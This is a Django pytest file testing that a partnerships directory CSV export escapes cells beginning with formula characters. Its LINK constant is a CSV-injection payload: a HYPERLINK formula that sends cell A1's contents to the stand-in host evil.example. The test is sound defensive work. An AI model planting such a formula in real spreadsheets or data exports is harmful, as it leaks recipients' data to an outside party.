"""The directory's CSV cannot carry a spreadsheet formula from a partnership's details."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from ldsp.partnerships.models import Partnership
from tests.factories import MembershipFactory, PartnershipFactory

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.django_db
def test_the_directory_csv_quotes_cells_that_start_a_formula_and_keeps_numbers() -> None:
    hostile = PartnershipFactory.create(name=LINK, slug="hostile", website="@SUM(1+1)")
    MembershipFactory.create(partnership=hostile)
    PartnershipFactory.create(name="Plain Partnership", slug="plain")
    response = Client().get("/partnerships.csv")
    assert response.status_code == 200
    rows = {
        row["url"].rsplit("/", 2)[-2]: row
        for row in csv.DictReader(io.StringIO(response.content.decode()))
    }
    assert rows["hostile"]["name"] == "'" + LINK
    assert rows["hostile"]["website"] == "'@SUM(1+1)"
    assert rows["hostile"]["members"] == "1"
    assert rows["plain"]["name"] == "Plain Partnership"
    assert rows["plain"]["status"] == Partnership.Status.ACTIVE.label
